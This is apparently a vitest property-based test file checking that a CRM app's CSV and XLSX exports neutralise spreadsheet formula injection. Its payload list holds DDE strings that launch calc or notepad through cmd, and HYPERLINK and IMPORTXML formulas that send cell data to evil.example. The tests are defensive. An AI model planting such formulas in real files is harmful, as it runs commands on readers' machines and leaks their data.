import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import zlib from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import type { Account } from '@contract/accounts';
import type { Contact } from '@contract/contacts';
import type { Import } from '@contract/imports';
import type { Tag } from '@contract/tags';
import { JobWorker } from '@server/jobs/worker';
import { readZipDirectory } from '@server/modules/imports/import-xlsx-zip';
import { expectOk, uniqueWord } from '@server/test/state';
import { testApp, type Client, type TestApp } from '@server/test/test-app';

/**
 * Every writer of spreadsheet files gets the same hostile strings (formulas in ASCII, full-width
 * and small forms, behind spaces) through the API, and every file is read back as a spreadsheet
 * would: no CSV cell may start like a formula, no XLSX cell may be one, and the text survives.
 */

let t: TestApp;
let admin: Client;
let worker: JobWorker;

beforeAll(async () => {
  t = await testApp();
  admin = await t.user({ role: 'admin', scope: 'all', language: 'es' });
  worker = new JobWorker(t.db, t.dialect, { pollMs: 10 });
});

afterAll(async () => {
  await worker.stop();
  await t.close();
});

// Written apart from server/lib/cell-safe on purpose: the oracle must not be the code under test.
const evaluates = (cell: string): boolean => /^[\s\u00a0\u3000]*[=+\-@\t\r＝＋－＠﹦﹢﹣﹫]/u.test(cell);

const triggers = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const payloads = [
  "2+5+cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"Ver")', "SUM(1+1)*cmd|' /C calc'!A0", '1+1',
  'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")', 'cmd|"/C notepad"!A0',
];
const printable = fc.string({ unit: fc.constantFrom(...'abcXYZ019 ()!|"\'&;,.=+-@áñ＝＋'), maxLength: 20 });
/** A name a user could type: a formula trigger, maybe behind spaces, then a payload. */
const hostile = fc.tuple(fc.constantFrom('', ' ', '  ', '\u3000'), fc.constantFrom(...triggers), fc.oneof(fc.constantFrom(...payloads), printable))
  .map(([lead, trigger, rest]) => `${lead}${trigger}${rest}`.slice(0, 50));

const csvCells = (body: string, delimiter: string): string[] =>
  z.array(z.array(z.string())).parse(parse(body.replace(/^\uFEFF/, ''), { delimiter, relax_column_count: true })).flat();

/** The first worksheet's XML as stored in the archive: what Excel itself reads. */
async function sheetXml(raw: Buffer): Promise<string> {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'cartera-xlsx-')), 'book.xlsx');
  fs.writeFileSync(file, raw);
  try {
    const entry = (await readZipDirectory(file)).find((item) => item.name === 'xl/worksheets/sheet1.xml');
    if (!entry) throw new Error('no worksheet in the archive');
    const start = entry.localHeaderOffset + 30 + raw.readUInt16LE(entry.localHeaderOffset + 26) + raw.readUInt16LE(entry.localHeaderOffset + 28);
    const data = raw.subarray(start, start + entry.compressedSize);
    return (entry.method === 8 ? zlib.inflateRawSync(data) : data).toString('utf8');
  } finally {
    fs.rmSync(path.dirname(file), { recursive: true, force: true });
  }
}

async function xlsxCells(raw: Buffer): Promise<ExcelJS.Cell[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.read(Readable.from([raw]));
  const cells: ExcelJS.Cell[] = [];
  book.worksheets[0]?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

/** Accounts, a contact, a tag and a failed import carrying the strings; returns the tag, the import and the texts as stored. */
async function plant(strings: string[]): Promise<{ tag: Tag; imp: Import; stored: string[] }> {
  const [a = '=1', b = '+1', c = '-1', d = '@1'] = strings;
  const word = uniqueWord('fx');
  const tag = expectOk<Tag>(await admin.post('/api/v1/tags', { name: `${b.trim().slice(0, 40)} ${word}` }), 201);
  const org = expectOk<Account>(await admin.post('/api/v1/accounts', {
    kind: 'organization', name: `${a} ${word}`, notes: d, addresses: { visit: { street: c, city: b, region: a } }, phones: ['-600 000 000'],
  }), 201);
  const contact = expectOk<Contact>(await admin.post(`/api/v1/accounts/${org.id}/contacts`, {
    newPerson: { firstName: c.trim() || '=x', lastName: `${d} ${word}`, phone: '+34 600 000 000' }, position: b,
  }), 201);
  for (const id of [org.id, contact.person.id]) expect((await admin.put(`/api/v1/accounts/${id}/tags/${tag.id}`)).statusCode).toBe(204);
  // An import whose column headings are the strings, every row failing: its error report names those columns.
  const file = stringify([[a, c], ['no es un correo', 'tampoco un teléfono']]);
  const uploaded = expectOk<Import>(await admin.request('POST', '/api/v1/imports?fileName=x.csv&kind=organization', Buffer.from(file), { 'content-type': 'application/octet-stream' }), 201);
  expectOk<Import>(await admin.post(`/api/v1/imports/${uploaded.id}/run`, { mapping: ['email', 'phone'], rules: uploaded.rules }));
  await worker.drain();
  const imp = expectOk<Import>(await admin.get(`/api/v1/imports/${uploaded.id}`));
  expect(imp.failed).toBe(1);
  const account = expectOk<Account>(await admin.get(`/api/v1/accounts/${org.id}`));
  return { tag, imp, stored: [account.name, account.notes ?? '', tag.name, a.trim(), c.trim()].filter(evaluates) };
}

describe('no file Cartera writes holds a cell a spreadsheet would evaluate', () => {
  test('accounts CSV (both separators) and XLSX, the tag mailing list and the import error report', async () => {
    await fc.assert(fc.asyncProperty(fc.array(hostile, { minLength: 4, maxLength: 4 }), async (strings) => {
      const { tag, imp, stored } = await plant(strings);
      const csvFiles = [
        { body: (await admin.get(`/api/v1/exports/accounts?tagId=${tag.id}`)).body, delimiter: ';' },
        { body: (await admin.get(`/api/v1/exports/accounts?tagId=${tag.id}&separator=comma`)).body, delimiter: ',' },
        { body: (await admin.get(`/api/v1/tags/${tag.id}/export.csv`)).body, delimiter: ';' },
        { body: (await admin.get(`/api/v1/imports/${imp.id}/errors.csv`)).body, delimiter: ',' },
      ];
      for (const { body, delimiter } of csvFiles) {
        const cells = csvCells(body, delimiter);
        expect(cells.filter(evaluates)).toEqual([]);
      }
      // Each file keeps the text, behind the apostrophe only.
      const all = csvFiles.flatMap(({ body, delimiter }) => csvCells(body, delimiter));
      for (const text of stored) expect(all).toContain(`'${text}`);

      const xlsx = await admin.get(`/api/v1/exports/accounts?format=xlsx&tagId=${tag.id}`);
      const cells = await xlsxCells(xlsx.rawPayload);
      expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined)).toEqual([]);
      const texts = cells.map((cell) => cell.text);
      for (const text of stored) expect(texts).toContain(text);
      expect(texts.filter((text) => text.startsWith("'"))).toEqual([]);
      // Excel reads the XML: no formula element, and text only as inline strings.
      const xml = await sheetXml(xlsx.rawPayload);
      expect(xml).not.toMatch(/<f[\s>]/);
      expect([...xml.matchAll(/<c [^>]*t="([^"]+)"/g)].map((match) => match[1]).filter((type) => type !== 'inlineStr')).toEqual([]);
    }), { numRuns: 6 });
  });
});
